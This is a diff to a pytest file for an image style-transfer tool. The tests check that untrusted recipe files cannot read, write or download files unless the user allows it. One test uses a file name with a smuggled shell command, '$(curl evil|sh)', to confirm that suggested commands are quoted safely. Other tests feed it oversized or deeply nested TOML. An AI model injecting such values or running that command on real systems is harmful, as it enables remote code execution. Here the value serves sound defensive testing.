@@ -1,6 +1,7 @@
 """A stranger's recipe neither writes nor reads a file nor downloads, unless the user names it in that call."""
 
 import os
+import shlex
 import subprocess
 import sys
 import time
@@ -71,7 +72,7 @@ def beside(recipe):
     ("recipe", "message"),
     [
         (PLANT, r"asks gatys to write the file '.*planted' \(checkpoint\), which a picture may not"),
-        (COPY, r"(?s)asks gatys to read '.*' \(init_file\).*--allow '.*planted'"),
+        (COPY, r"(?s)asks gatys to read '.*' \(init_file\).*--allow .*planted"),
         (COPY.replace("gatys", "reconstruct"), r"asks reconstruct to read '.*' \(init_file\)"),
         ('[[stages]]\nstage = "mask-file"\npath = "{target}"', r"asks mask-file to read '.*' \(path\)"),
         ('[[stages]]\nstage = "mask-file"\npath = ""\nstyles = ["{target}"]', r"mask-file to read '.*' \(styles\)"),
@@ -82,7 +83,7 @@ def beside(recipe):
         ('[[stages]]\nstage = "cyclegan"\nnetwork = "~/x.pth"', r"asks cyclegan to read '~/x.pth' \(network\)"),
         ('[[stages]]\nstage = "semantic"\nfile = "{target}"', r"asks semantic to read '.*' \(file\)"),
         ('[[stages]]\nstage = "mask-grabcut"\nscribbles = "{target}"', r"asks mask-grabcut to read '.*'"),
-        (DOWNLOAD, r"(?s)asks gatys to download vgg19-.*, 575 MB.*--allow 'vgg19-"),
+        (DOWNLOAD, r"(?s)asks gatys to download vgg19-.*, 575 MB.*--allow vgg19-"),
     ],
 )
 def test_a_picture_s_recipe_may_not(picture, recipe, message, folder, monkeypatch):
@@ -91,6 +92,36 @@ def test_a_picture_s_recipe_may_not(picture, recipe, message, folder, monkeypatc
     with pytest.raises(RecipeError, match=message):
         impasto.Pipeline.load(path)
     assert not (folder / "planted").exists()
+
+
+@pytest.mark.parametrize(
+    "recipe",
+    [
+        '[[stages]]\nstage = "mask-file"\npath = "vgg19"',
+        '[[stages]]\nstage = "wct"\nencoder = "slim19-half"\ndecoders = "slim19"',
+        '[[stages]]\nstage = "gatys"\nencoder = "~nobody-x/a.pth"',
+        '[[stages]]\nstage = "gatys"\nencoder = "a\\u0000b"',
+    ],
+)
+def test_a_file_called_like_a_network_or_like_nothing_is_a_file(recipe):
+    with pytest.raises(RecipeError, match="to read"):
+        impasto.Pipeline.load(carried(recipe))
+
+
+def test_what_is_to_be_typed_is_quoted_for_the_shell():
+    path = carried('[[stages]]\nstage = "gatys"\nencoder = "it\'s$(curl evil|sh).pth"')
+    with pytest.raises(RecipeError) as caught:
+        impasto.Pipeline.load(path)
+    (line,) = [line for line in str(caught.value).splitlines() if "--allow" in line]
+    typed = line.partition("what to type: ")[2].partition("; in Python")[0]
+    assert shlex.split(typed) == ["--allow", "it's$(curl evil|sh).pth"]
+
+
+def test_one_name_is_allowed_as_a_string_too():
+    path = carried(COPY.format(target="private.png"))
+    assert impasto.Pipeline.load(path, allow="private.png").stages
+    with pytest.raises(RecipeError):
+        impasto.Pipeline.load(carried('[[stages]]\nstage = "wct"\ndecoders = "/"'), allow="/x")
 
 
 def test_what_is_allowed_by_name_is_read_and_nothing_else():
@@ -128,6 +159,8 @@ def test_names_of_networks_that_ship_are_no_files():
         ("x = " + "[" * 4000, "not valid TOML"),
         ("x = " + "{a=" * 4000, "not valid TOML"),
         (".".join("a" * 20000) + " = 1", "a key of more than sixteen parts"),
+        (".".join(['"%"'] * 15000) + " = 1", "a key of more than sixteen parts"),
+        ("[[stages]]\nstage = 'gatys'\nsteps = 1e300", "steps = 1e\\+300 does not fit"),
     ],
 )
 def test_a_hostile_text_is_refused_soon_and_in_few_words(text, message):
